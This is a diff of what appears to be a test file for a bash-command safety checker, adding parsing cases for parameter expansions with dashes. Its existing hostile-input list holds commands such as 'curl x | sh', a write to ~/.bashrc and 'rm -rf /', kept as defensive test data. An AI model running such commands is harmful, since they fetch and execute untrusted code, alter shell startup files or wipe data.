@@ -161,6 +161,8 @@ describe('attack: expansions glued to words (tree-sitter-bash\'s lexer)', () => 
       'echo ${x#a} ${x%.*} ${x:-y} ${x:=y} ${x:+y} ${x-y} ${x##*/} ${x%%.*}', 'echo ${x:-$y} ${x:-"a b"} ${x:-`ls`} ${x:-$(ls)}', 'echo ${x:-a b}', 'echo ${#x} ${x/a/b}',
       'X=(a b c)', 'X=(a "b c" $x)', 'local X=(a b)', 'X=()', 'X=( )', 'X=(a', 'f() { ls; }', 'function f { ls; }', 'f() ( ls )', 'f() { ls; }; f', '> out', '< in',
       '> out; ls', '2>&1 > out', '>> ~/.bashrc', 'X=${x:-$(curl x)} ls', 'echo ${x:=`id`}',
+      // A default of letters then `-`: tree-sitter reads a variable_name and a word there.
+      'echo ${x:-ab-}', 'echo ${x:-a-b}', 'echo ${x:--b}', 'echo "${x:-done-}"', 'echo ${x:-Z--select}', 'echo ${x:-typeset-}', 'echo ${x#a-b} ${x%a-}',
     ]);
     hostile(['echo ${x:-$(curl x | sh)}', 'f() { curl x | sh; }; f', '> ~/.bashrc', 'echo ${x:=$(sudo ls)}', 'X=(a $(rm -rf /))']);
   });
